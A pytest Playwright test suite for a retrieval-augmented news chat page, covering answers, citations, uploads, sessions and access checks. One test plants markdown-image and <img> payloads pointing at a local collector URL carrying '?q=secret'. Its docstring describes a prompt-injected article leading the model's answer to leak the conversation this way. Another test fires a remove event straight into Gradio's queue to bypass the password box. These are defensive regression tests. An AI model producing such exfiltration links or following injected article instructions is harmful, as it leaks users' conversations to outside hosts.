"""The chat page in a real headless Chromium (Debian's), driven by Playwright.

The page runs in-process on 127.0.0.1 over a real Chroma index; the LLM is the OpenAI-protocol
stub server answering extractively (quote the closest source sentence, cite it), so what the
page must show is known. `test_real_model_answer` uses the bundled model and is `slow`.
Screenshots of the main states go to reports/screenshots/ (copied to docs/screenshots/).
"""

from __future__ import annotations

import math
import os
import shutil
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from rag.assistant import Assistant
from rag.bench.chroma_server import free_port
from rag.indexing import index_paths
from tests.fixtures.openai_stub import OpenAIStub, StubBehaviour, extractive_reply
from tests.fixtures.settings import ROOT, make_settings

CHROMIUM = os.environ.get("RAG_CHROMIUM", "/usr/bin/chromium")
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage"]
SHOTS = ROOT / "reports" / "screenshots"
TRUDEAU = "How much money did Trudeau announce for military equipment?"

if not Path(CHROMIUM).is_file():  # pragma: no cover - depends on the machine
    pytest.skip(f"!!! BROWSER TESTS SKIPPED: no Chromium at {CHROMIUM}; `make test` installs Debian's "
                "package `chromium` (apt-get install -y chromium) !!!", allow_module_level=True)
sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed (pip install -e '.[dev]')")


class Page:
    """A started chat page and what the tests need to reach it."""

    def __init__(self, url: str, stub: OpenAIStub, articles: Path, bot: Assistant) -> None:
        self.url, self.stub, self.articles, self.bot = url, stub, articles, bot


def start_page(tmp: Path, stub: OpenAIStub | None, loopback: bool = True,
               **overrides: Any) -> tuple[Any, str, Path, Assistant]:
    from ui.app import build_app, launch_kwargs

    articles = tmp / "articles"
    shutil.copytree(ROOT / "data" / "articles", articles)
    llm: dict[str, Any] = ({"llm": "openai", "openai_base_url": stub.base_url, "openai_api_key": "sk-ui",
                            "llm_model": "stub"} if stub else {})
    settings = make_settings(tmp, articles_dir=articles, **llm, **overrides)
    bot = Assistant(settings)
    index_paths(settings, embedder=bot.embedder)
    demo = build_app(settings, bot, loopback=loopback)
    port = free_port()
    demo.queue(default_concurrency_limit=8).launch(server_name="127.0.0.1", server_port=port, share=False,
                                                   prevent_thread_lock=True, quiet=True, **launch_kwargs())
    return demo, f"http://127.0.0.1:{port}/", articles, bot


@pytest.fixture(scope="module")
def page_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
    behaviour = StubBehaviour(reply=extractive_reply, chunk_delay=0.05)
    with OpenAIStub(behaviour) as stub:
        demo, url, articles, bot = start_page(tmp_path_factory.mktemp("ui"), stub)
        try:
            yield Page(url, stub, articles, bot)
        finally:
            demo.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS, headless=True)
        yield b
        b.close()


def open_page(browser: Any, url: str) -> Any:
    page = browser.new_page(viewport={"width": 1400, "height": 900})
    page.goto(url)
    page.wait_for_selector("#rag-question textarea")
    return page


def ask(page: Any, question: str, answers_before: int) -> Any:
    page.fill("#rag-question textarea", question)
    page.click("#rag-ask")
    return wait_answers(page, answers_before + 1)


def bot_messages(page: Any) -> Any:
    return page.locator("#rag-chat .message-row.bot-row, #rag-chat [data-testid='bot']")


def wait_answers(page: Any, count: int, timeout: float = 90) -> Any:
    """Wait until `count` answers are final (rendered with citations or as an abstention)."""
    deadline = time.time() + timeout
    final = page.locator("#rag-chat a.rag-cite, #rag-chat .rag-abstain, #rag-chat .rag-error")
    while time.time() < deadline:
        done = page.evaluate("""() => {
            const rows = [...document.querySelectorAll(
                '#rag-chat .rag-cite, #rag-chat .rag-abstain, #rag-chat .rag-error')];
            const bubbles = new Set(rows.map(r => r.closest('.message-row, .message')));
            return bubbles.size;
        }""")
        if done >= count:
            return final
        time.sleep(0.2)
    raise AssertionError(f"no {count} final answers within {timeout} s; page says: "
                         f"{page.inner_text('#rag-chat')[:500]}")


def shot(page: Any, name: str) -> None:
    SHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SHOTS / name))


def test_ask_stream_and_open_the_cited_passage(page_server: Page, browser: Any) -> None:
    page = open_page(browser, page_server.url)
    assert "5 articles" in page.inner_text("#rag-status")
    assert page.get_by_text("Who is Russia's ambassador to Canada?").count() >= 1  # example questions
    shot(page, "empty-chat.png")

    page.fill("#rag-question textarea", TRUDEAU)
    page.click("#rag-ask")
    seen: list[str] = []
    deadline = time.time() + 30
    while time.time() < deadline and not page.locator("#rag-chat a.rag-cite").count():
        text = page.locator("#rag-chat").inner_text()
        if not seen or seen[-1] != text:
            seen.append(text)
        time.sleep(0.05)
    # The answer is checked before it is shown: the page says so, then shows the checked sentence.
    assert any("checking the answer" in text for text in seen), seen[-3:]
    wait_answers(page, 1)
    chat = page.inner_text("#rag-chat")
    assert "$500 million" in chat and "[1]" in chat

    page.locator("#rag-chat a.rag-cite").first.click()
    active = page.locator("#rag-sources .rag-source.rag-active")
    active.wait_for(timeout=5000)
    card = active.inner_text()
    assert "004_ca42ec8f4e875d75.txt" in card
    assert "Zelensky and Trudeau" in card and "2023-01" in card and "English" in card and "score" in card
    assert "$500 million" in active.locator("mark").inner_text()  # the supporting sentence is highlighted
    shot(page, "answer-with-passage.png")

    ask(page, "Why did they summon the Russian ambassador?", 1)  # a follow-up in the same chat
    rewrite = [r for r in page_server.stub.behaviour.requests if "Rewritten question" in r["messages"][-1]["content"]]
    assert rewrite and TRUDEAU in rewrite[-1]["messages"][-1]["content"]
    assert page.locator("#rag-chat a.rag-cite").count() >= 2
    page.close()


def test_questions_that_cannot_be_answered_or_asked(page_server: Page, browser: Any) -> None:
    page = open_page(browser, page_server.url)
    ask(page, "Zebra quantum marmalade?", 0)
    assert "The articles don't say" in page.inner_text("#rag-chat")
    assert "Closest passages" in page.inner_text("#rag-sources")
    shot(page, "abstention.png")
    page.fill("#rag-question textarea", "x" * 2500)
    page.click("#rag-ask")
    page.get_by_text("too long").wait_for(timeout=10000)
    page.click("#rag-new")
    page.wait_for_function("() => !document.querySelector('#rag-chat .rag-abstain')")
    page.close()


def test_llm_failure_is_explained_and_the_page_stays_usable(page_server: Page, browser: Any) -> None:
    page = open_page(browser, page_server.url)
    page_server.stub.behaviour.status = 500
    try:
        ask(page, TRUDEAU, 0)
    finally:
        page_server.stub.behaviour.status = 200
    assert "the language model did not answer" in page.inner_text("#rag-chat")
    assert "HTTP 500" in page.inner_text("#rag-notice")
    assert page.input_value("#rag-question textarea") == TRUDEAU  # kept for a retry
    page.click("#rag-ask")
    wait_answers(page, 2)
    assert "$500 million" in page.inner_text("#rag-chat")
    page.close()


def test_gradio_client_api(page_server: Page) -> None:
    from gradio_client import Client

    client = Client(page_server.url, verbose=False)
    result = client.predict(TRUDEAU, None, api_name="/ask")
    assert result["citations"][0]["source"] == "004_ca42ec8f4e875d75.txt"
    assert result["abstained"] is False
    articles = client.predict(api_name="/articles")
    assert "004_ca42ec8f4e875d75.txt" in [a["article"] for a in articles]


def test_upload_an_article_and_get_it_cited(page_server: Page, browser: Any, tmp_path: Path) -> None:
    page = open_page(browser, page_server.url)
    page.get_by_role("tab", name="Articles").click()
    page.get_by_text("004_ca42ec8f4e875d75.txt").first.wait_for()
    story = tmp_path / "odesa grain.txt"
    story.write_text("Odesa port reopens for grain ships\nThe port of Odesa reopened on Monday for twelve grain "
                     "ships carrying sunflower oil to Istanbul, officials said.\n")
    bad = tmp_path / "photo.txt"
    bad.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00binary")
    page.set_input_files("#rag-upload input[type=file]", [str(bad)])
    page.click("#rag-add")
    page.get_by_text("binary").wait_for(timeout=20000)  # refused with a reason, nothing indexed
    page.set_input_files("#rag-upload input[type=file]", [str(story)])
    page.click("#rag-add")
    try:
        page.get_by_text("Indexed odesa grain.txt").wait_for(timeout=60000)
    except Exception:
        shot(page, "debug-upload.png")
        raise AssertionError(page.inner_text("#rag-articles-msg")) from None
    assert "odesa grain.txt" in page.inner_text("#rag-articles")
    assert (page_server.articles / "odesa grain.txt").is_file()
    shot(page, "articles.png")

    page.get_by_role("tab", name="Chat").click()
    ask(page, "How many grain ships did the port of Odesa reopen for?", 0)
    if not page.locator("#rag-chat a.rag-cite").count():  # say what the model was shown (a CI run once abstained)
        prompts = [r["messages"][-1]["content"] for r in page_server.stub.behaviour.requests
                   if "Odesa" in r["messages"][-1]["content"].rsplit("Question:", 1)[-1]]
        raise AssertionError(f"no citation; page: {page.inner_text('#rag-chat')!r}; "
                             f"last prompt: {prompts[-1][-1500:] if prompts else None!r}; "
                             f"the index: {what_the_index_holds(page_server.articles, 'odesa grain.txt')}; "
                             f"the page's retriever: {what_the_page_retrieves(page_server.bot, 'odesa grain.txt')}")
    page.locator("#rag-chat a.rag-cite").first.click()
    assert "odesa grain.txt" in page.locator("#rag-sources .rag-source.rag-active").inner_text()
    page.close()


def vector_norms(vectors: Any) -> list[float]:
    """Each vector's length, rounded: 1.0 for a sound unit vector, something else for a broken one."""
    return [round(math.sqrt(sum(float(x) * float(x) for x in v)), 3) for v in vectors]


def what_the_index_holds(articles: Path, doc_id: str) -> str:
    """For a failure message: the article's chunks as a fresh reader finds them (count, vector
    norms) and the nearest sources to its own text: tells a missing chunk from a bad vector."""

    from rag.embeddings import E5Embedding
    from rag.store import IndexStore

    store = IndexStore.open(make_settings(articles.parent, articles_dir=articles))
    got = store.collection.get(where={"doc_id": doc_id}, include=["documents", "embeddings"])
    norms = vector_norms(got["embeddings"])
    probe = E5Embedding().get_query_embedding(got["documents"][0] if got["documents"] else doc_id)
    nearest = [h.node.metadata.get("doc_id") for h in store.query(probe, 4)]
    return f"{len(got['ids'])} chunks, norms {norms}, nearest to its text {nearest}, total {store.count()}"


def what_the_page_retrieves(bot: Assistant, doc_id: str) -> str:
    """For a failure message: whether the page's retriever reads through the client a fresh open
    gets, the article's vector in the second model's collection, and where each model ranks it.
    (A run failed with the chunk present and ranked first by e5 for its own text: a stale client
    or the fusion is what remains.)"""
    from rag.store import IndexStore

    store = bot.retriever.store
    fresh = IndexStore.open(bot.settings)
    question = "How many grain ships did the port of Odesa reopen for?"
    ids = store.collection.get(where={"doc_id": doc_id}, include=[])["ids"]
    aux = store.aux.get(ids=ids, include=["embeddings"]) if store.aux is not None and ids else None
    aux_norms = vector_norms(aux["embeddings"]) if aux else None
    e5 = [h.node.metadata.get("doc_id") for h in store.query(bot.embedder.get_query_embedding(question), 20)]
    second = store.query_aux(bot.aux_embedder.get_query_embedding(question), 20) if bot.aux_embedder else []
    return (f"same client as a fresh open: {store.client is fresh.client}, count {store.count()} vs "
            f"{fresh.count()}; second-model vectors {aux_norms}; e5 rank "
            f"{e5.index(doc_id) + 1 if doc_id in e5 else None}; second-model rank "
            f"{second.index(ids[0]) + 1 if ids and ids[0] in second else None}; "
            f"retrieved {[p.doc_id for p in bot.retrieve(question)]}")


def test_two_sessions_do_not_mix(page_server: Page, browser: Any) -> None:
    first, second = open_page(browser, page_server.url), open_page(browser, page_server.url)
    errors: list[BaseException] = []

    def type_and_send(page: Any, question: str) -> None:
        page.fill("#rag-question textarea", question)
        page.click("#rag-ask")

    type_and_send(first, "What memorial did Melanie Joly visit in Kyiv?")
    type_and_send(second, "Who is the spokesperson who gave Joly's office's statement to CTV?")
    for page in (first, second):
        try:
            wait_answers(page, 1)
        except AssertionError as exc:
            errors.append(exc)
    assert not errors
    a, b = first.inner_text("#rag-chat"), second.inner_text("#rag-chat")
    assert "Melanie Joly visit" in a and "spokesperson" not in a
    assert "spokesperson" in b and "Melanie Joly visit" not in b
    ask(first, "And when was that?", 1)  # the follow-up's history must be the first session's alone
    rewrite = [r for r in page_server.stub.behaviour.requests if "Rewritten question" in r["messages"][-1]["content"]]
    convo = rewrite[-1]["messages"][-1]["content"]
    assert "Melanie Joly visit" in convo and "spokesperson" not in convo
    assert "spokesperson" not in first.inner_text("#rag-chat")
    first.close()
    second.close()


@pytest.mark.slow
def test_real_model_answer(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> None:
    """The README screenshot: the bundled model answering, its cited passage open."""
    demo, url, _, _ = start_page(tmp_path_factory.mktemp("ui-real"), None)
    try:
        page = open_page(browser, url)
        ask(page, TRUDEAU, 0)
        assert "500 million" in page.inner_text("#rag-chat")
        page.locator("#rag-chat a.rag-cite").first.click()
        card = page.locator("#rag-sources .rag-source.rag-active")
        card.wait_for(timeout=5000)
        assert "004_ca42ec8f4e875d75.txt" in card.inner_text()
        shot(page, "real-model-answer.png")
        page.close()
    finally:
        demo.close()


def test_admin_password_protects_index_changes(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> None:
    with OpenAIStub(StubBehaviour(reply=extractive_reply)) as stub:
        demo, url, articles, _ = start_page(tmp_path_factory.mktemp("ui-admin"), stub, admin_password="s3cret-pw")
        try:
            page = open_page(browser, url)
            page.get_by_role("tab", name="Articles").click()
            page.locator("#rag-password input").wait_for()
            page.locator("#rag-remove-choice input").fill("003_7c54699dea69932d.txt")
            page.keyboard.press("Enter")
            page.click("#rag-remove")
            page.get_by_text("wrong password").wait_for(timeout=10000)
            assert (articles / "003_7c54699dea69932d.txt").is_file()
            page.locator("#rag-password input").fill("s3cret-pw")
            page.click("#rag-remove")
            page.get_by_text("Removed 003_7c54699dea69932d.txt").wait_for(timeout=10000)
            assert not (articles / "003_7c54699dea69932d.txt").exists()
            assert "4 articles" in page.inner_text("#rag-status")
            page.close()
        finally:
            demo.close()


def hidden_event(url: str, button: str, data: list[Any]) -> str:
    """Fire the page event behind `button` the way a script would: straight into Gradio's queue,
    no browser, no password box. Returns what the event finally said."""
    import httpx

    with httpx.Client(base_url=url, timeout=60) as http:
        config = http.get("/config").json()
        target = next(c["id"] for c in config["components"] if c.get("props", {}).get("elem_id") == button)
        fn_index = next(i for i, d in enumerate(config["dependencies"])
                        if any(t[0] == target for t in d.get("targets", [])))
        session = "probe" + str(time.time_ns())
        joined = http.post("/gradio_api/queue/join", json={"data": data, "fn_index": fn_index, "trigger_id": target,
                                                           "session_hash": session, "event_data": None})
        assert joined.status_code == 200, joined.text
        with http.stream("GET", "/gradio_api/queue/data", params={"session_hash": session}) as events:
            for line in events.iter_lines():
                if '"process_completed"' in line:
                    return line
    raise AssertionError("the event never completed")


def test_page_changes_need_the_token_even_through_hidden_events(tmp_path_factory: pytest.TempPathFactory) -> None:
    """With RAG_API_TOKEN set and no admin password, posting the page's remove event to Gradio's
    queue used to delete an article and its file without any token."""
    with OpenAIStub(StubBehaviour(reply=extractive_reply)) as stub:
        demo, url, articles, _ = start_page(tmp_path_factory.mktemp("ui-token"), stub, loopback=False,
                                         api_token="tok-123")
        try:
            said = hidden_event(url, "rag-remove", ["003_7c54699dea69932d.txt", ""])
            assert "wrong password" in said
            assert (articles / "003_7c54699dea69932d.txt").is_file()
            said = hidden_event(url, "rag-remove", ["003_7c54699dea69932d.txt", "tok-123"])
            assert "Removed 003_7c54699dea69932d.txt" in said
            assert not (articles / "003_7c54699dea69932d.txt").exists()
        finally:
            demo.close()
    with OpenAIStub(StubBehaviour(reply=extractive_reply)) as stub:  # no secret at all, not loopback-only
        demo, url, articles, _ = start_page(tmp_path_factory.mktemp("ui-open"), stub, loopback=False)
        try:
            assert "disabled" in hidden_event(url, "rag-remove", ["003_7c54699dea69932d.txt", ""])
            assert (articles / "003_7c54699dea69932d.txt").is_file()
        finally:
            demo.close()


def test_markdown_image_in_an_answer_is_not_fetched(page_server: Page, browser: Any) -> None:
    """An answer sentence `![x](http://host/x.png?q=secret)` (from a prompt-injected article) was
    rendered as <img>: every reader's browser fetched it, leaking the conversation."""
    import http.server
    import threading

    hits: list[str] = []

    class Collector(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *_args: Any) -> None:
            pass

    collector = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Collector)
    threading.Thread(target=collector.serve_forever, daemon=True).start()
    leak = f"http://127.0.0.1:{collector.server_port}/x.png?q=secret"
    previous = page_server.stub.behaviour.reply
    page_server.stub.behaviour.reply = (f"Trudeau announced $500 million for military equipment [1]. ![x]({leak}) "
                                        f"[link](http://127.0.0.1:{collector.server_port}/l) <img src='{leak}'>")
    try:
        page = open_page(browser, page_server.url)
        ask(page, f"{TRUDEAU} ![x]({leak})", 0)  # the visitor's own text is rendered inert too
        time.sleep(1)
        assert hits == [], "the page fetched a URL named in an answer or a question"
        assert page.locator("#rag-chat img").count() == 0
        assert page.locator(f"#rag-chat a[href*='{collector.server_port}']").count() == 0
        assert "![x](" in page.inner_text("#rag-chat")  # shown as the text it is
        assert "$500 million" in page.inner_text("#rag-chat")
        page.close()
    finally:
        page_server.stub.behaviour.reply = previous
        collector.shutdown()


def test_closing_the_page_mid_answer_frees_the_llm_slot(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> None:
    """A visitor who closed the page mid-answer used to keep an LLM slot for good."""
    sentence = "Trudeau announced $500 million for military equipment [1]. "
    behaviour = StubBehaviour(reply=sentence * 60, chunk_delay=0.05)  # ~40 s to stream in full
    with OpenAIStub(behaviour) as stub:
        demo, url, _, _ = start_page(tmp_path_factory.mktemp("ui-close"), stub, llm_concurrency=1, llm_timeout=20)
        try:
            page = open_page(browser, url)
            page.fill("#rag-question textarea", TRUDEAU)
            page.click("#rag-ask")
            page.get_by_text("Trudeau announced").first.wait_for(timeout=30000)
            page.close()
            deadline = time.time() + 15
            while behaviour.in_flight and time.time() < deadline:
                time.sleep(0.2)
            assert behaviour.in_flight == 0, "the LLM request of the closed page was not closed"
            behaviour.reply = sentence
            second = open_page(browser, url)
            ask(second, TRUDEAU, 0)  # the one slot is free: answered, not "all 1 LLM slots stayed busy"
            assert "$500 million" in second.inner_text("#rag-chat")
            second.close()
        finally:
            demo.close()
